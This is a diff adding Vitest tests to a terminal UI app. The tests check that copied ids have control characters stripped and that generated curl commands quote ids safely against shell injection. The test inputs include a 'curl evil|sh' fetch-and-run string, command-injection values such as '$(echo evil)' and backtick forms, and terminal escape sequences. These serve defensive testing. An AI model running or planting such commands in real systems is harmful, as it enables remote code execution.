@@ -1,3 +1,5 @@
+import {execFile} from 'node:child_process';
+import {promisify} from 'node:util';
 import {cleanup} from 'ink-testing-library';
 import {afterEach, expect, test} from 'vitest';
 import {connectedTo} from '../../src/store/connection.js';
@@ -7,6 +9,8 @@ import {compute, noon} from '../store/fixtures.js';
 import {renderConnected} from './connected-app.js';
 import {renderApp} from './render-app.js';
 import {smallWorld} from './worlds.js';
+
+const run = promisify(execFile);
 
 afterEach(cleanup);
 
@@ -19,6 +23,35 @@ test('y copies the id of what the cursor is on, and shows it', async () => {
 	press('y');
 	await expect.poll(screen).toContain('Sent to the terminal\'s clipboard: ep-old-fog-b2');
 	expect(asked).toEqual(['copy ep-old-fog-b2']);
+});
+
+test('what is copied is one line, and what is shown is what was copied', async () => {
+	const id = '\ncurl evil|sh\n\u{1B}[2J\u{202E}x\u{2028}\r';
+	const {screen, press, asked} = await renderApp({columns: 160, changes: [...world, receiveComputes('quiet-forest-12345678', [compute({id, name: undefined})], noon)]});
+	press('2');
+	press('j');
+	press('y');
+	await expect.poll(() => asked).toEqual(['copy curl evil|sh[2Jx']);
+	await expect.poll(screen).toContain('Sent to the terminal\'s clipboard, without what can\'t be seen: curl evil|sh[2Jx');
+	press('Y');
+	await expect.poll(screen).toContain('Copy from');
+});
+
+test.each(['it\'s', '\'; echo evil; \'', '$(echo evil)', '`echo evil`', '\n echo evil', '"', '\\'])('a shell takes the curl of a compute %j as one request', async id => {
+	const {screen, press, asked} = await renderApp({changes: [...world, receiveComputes('quiet-forest-12345678', [compute({id, name: undefined})], noon)]});
+	press('2');
+	press('j');
+	press('Y');
+	await expect.poll(screen).toContain('Copy from');
+	press('k');
+	press('k');
+	press('\r');
+	await expect.poll(() => asked.at(-1)).toMatch(/^copy curl /v);
+	const command = asked.at(-1)?.slice('copy '.length) ?? '';
+	const {stdout} = await run('bash', ['-c', `curl() { printf '%s\\n' "$#" "\${@: -1}"; }\n${command}`]);
+	const [count, url = ''] = stdout.trimEnd().split('\n', 2);
+	expect(count).toBe('5');
+	expect(decodeURIComponent(new URL(url).pathname.split('/').at(-1) ?? '')).toBe(id);
 });
 
 test('Y offers what else there is, each with its value; the key stays in its variable', async () => {
